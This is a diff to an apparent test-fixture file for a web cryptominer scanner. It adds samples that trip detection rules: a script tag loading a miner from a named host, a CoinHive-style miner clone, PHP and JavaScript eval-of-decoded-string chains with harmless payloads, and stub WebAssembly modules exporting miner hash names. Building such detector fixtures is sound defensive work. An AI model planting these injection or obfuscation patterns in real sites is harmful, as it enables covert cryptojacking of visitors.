@@ -7,6 +7,7 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
+import { deflateRawSync } from 'node:zlib';
 import type { MinerKind } from '../../src/model/finding.js';
 
 const execFileP = promisify(execFile);
@@ -86,9 +87,9 @@ function base64Utf16(text: string): string {
   return Buffer.from(text, 'utf16le').toString('base64');
 }
 
-/** A minimal valid WebAssembly module exporting `cryptonight_hash: () -> i32` that returns 0. */
-function wasmModule(): Buffer {
-  const name = Buffer.from('cryptonight_hash');
+/** A minimal valid WebAssembly module exporting `name: () -> i32` that returns 0. */
+function wasmModule(exportName = 'cryptonight_hash'): Buffer {
+  const name = Buffer.from(exportName);
   const section = (id: number, body: number[]): number[] => [id, body.length, ...body];
   return Buffer.from([
     ...[0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00],
@@ -942,7 +943,7 @@ export const SAMPLES: readonly SampleDefinition[] = [
     rules: ['MH_Web_Wasm_CryptoNight_Module'],
     type: 'bytes',
     file: 'cryptonight.wasm',
-    bytes: wasmModule,
+    bytes: () => wasmModule(),
   },
   {
     id: 'wasm-loader',
@@ -1001,6 +1002,72 @@ export const SAMPLES: readonly SampleDefinition[] = [
     type: 'text',
     file: 'footer.php',
     text: '<?php echo \'<script src="//cdn.example.invalid/js/deepminer.min.js"></script>\'; ?>\n',
+  },
+  {
+    id: 'miner-script-host',
+    family: 'web-miners',
+    kind: 'web-script',
+    rules: ['MH_Web_Miner_Script_Hosts'],
+    type: 'text',
+    file: 'analytics.js',
+    text: "var s = document.createElement('script');\ns.src = 'https://www.hostingcloud.racing/Q89r.js';\ndocument.body.appendChild(s);\n",
+  },
+  {
+    id: 'coinhive-style-clone',
+    family: 'web-miners',
+    kind: 'web-script',
+    rules: ['MH_Web_CoinHive_Style_API'],
+    type: 'text',
+    file: 'clone.html',
+    text: [
+      '<script src="/js/leatmine.js"></script>',
+      '<script>',
+      'leatMine.CONFIG.WEBSOCKET_SHARDS = [["wss://proxy.example.invalid/"]];',
+      "var m = new leatMine.Anonymous('SAMPLE_SITE_KEY', { throttle: 0.5 });",
+      'm.start();',
+      '</script>',
+      '',
+    ].join('\n'),
+  },
+
+  // ---- Obfuscated web code (rules/web-obfuscation.yar) ----
+  {
+    id: 'php-eval-decode-chain',
+    family: 'web-obfuscation',
+    kind: 'web-script',
+    rules: ['MH_Web_PHP_Eval_Decode_Chain'],
+    type: 'text',
+    file: 'class-wp-cache.php',
+    text: `<?php @eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from("echo 'minehunter test sample';")).toString('base64')}'))); ?>\n`,
+  },
+  {
+    id: 'js-eval-decoded',
+    family: 'web-obfuscation',
+    kind: 'web-script',
+    rules: ['MH_Web_JS_Eval_Decoded_Script'],
+    type: 'text',
+    file: 'footer.js',
+    text: `eval(atob('${Buffer.from('console.log("minehunter test sample")').toString('base64')}'));\n`,
+  },
+
+  // ---- WebAssembly miners (rules/web-wasm.yar) ----
+  {
+    id: 'wasm-randomx',
+    family: 'web-wasm',
+    kind: 'web-script',
+    rules: ['MH_Web_Wasm_Miner_Hash_Exports'],
+    type: 'bytes',
+    file: 'rx.wasm',
+    bytes: () => wasmModule('randomx_calculate_hash'),
+  },
+  {
+    id: 'wasm-embedded-base64',
+    family: 'web-wasm',
+    kind: 'web-script',
+    rules: ['MH_Web_Wasm_Embedded_Base64_Miner'],
+    type: 'text',
+    file: 'worker.js',
+    text: `const CN = '${wasmModule().toString('base64')}';\nWebAssembly.instantiate(decode(CN)).then((m) => m.instance.exports.cryptonight_hash());\n`,
   },
 ];
 
